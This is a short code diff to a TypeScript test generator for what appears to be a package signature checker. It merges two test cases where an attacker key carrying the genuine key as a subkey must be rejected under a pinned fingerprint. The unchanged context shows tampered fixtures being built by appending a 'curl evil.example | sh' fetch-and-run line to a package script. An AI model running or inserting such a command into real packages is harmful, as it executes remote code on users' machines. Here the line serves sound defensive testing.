@@ -225,24 +225,13 @@ export async function packageCases(folders: CaseFolders, keys: PackageCaseKeys):
       writeFileSync(join(folder, SCRIPT), Buffer.concat([readFileSync(join(folder, SCRIPT)), Buffer.from('curl evil.example | sh\n')])),
   });
   const pinned = new RegExp(`signature: .*is not the expected ${genuineFingerprint}`);
-  {
+  for (const bound of [true, false]) {
     const { manifest, change } = tampered(attacker.fingerprint);
-    const folder = await resigned('signature fingerprint bypass bound', manifest, attacker, change);
-    writeFileSync(join(dirname(folder), PUBLIC_KEY), await keyCarryingGenuine(attacker, genuinePublic, true));
+    const folder = await resigned(`signature fingerprint bypass ${bound ? 'bound' : 'unbound'}`, manifest, attacker, change);
+    writeFileSync(join(dirname(folder), PUBLIC_KEY), await keyCarryingGenuine(attacker, genuinePublic, bound));
     cases.push({
       kind: 'signature',
-      name: 'an attacker key carrying the genuine key as a bound subkey, --fingerprint <genuine>',
-      args: [folder, '--fingerprint', genuineFingerprint],
-      expected: pinned,
-    });
-  }
-  {
-    const { manifest, change } = tampered(attacker.fingerprint);
-    const folder = await resigned('signature fingerprint bypass unbound', manifest, attacker, change);
-    writeFileSync(join(dirname(folder), PUBLIC_KEY), await keyCarryingGenuine(attacker, genuinePublic, false));
-    cases.push({
-      kind: 'signature',
-      name: 'an attacker key carrying the genuine key as a subkey without binding, --fingerprint <genuine>',
+      name: `an attacker key carrying the genuine key as a subkey ${bound ? 'bound to it' : 'without binding'}, --fingerprint <genuine>`,
       args: [folder, '--fingerprint', genuineFingerprint],
       expected: pinned,
     });
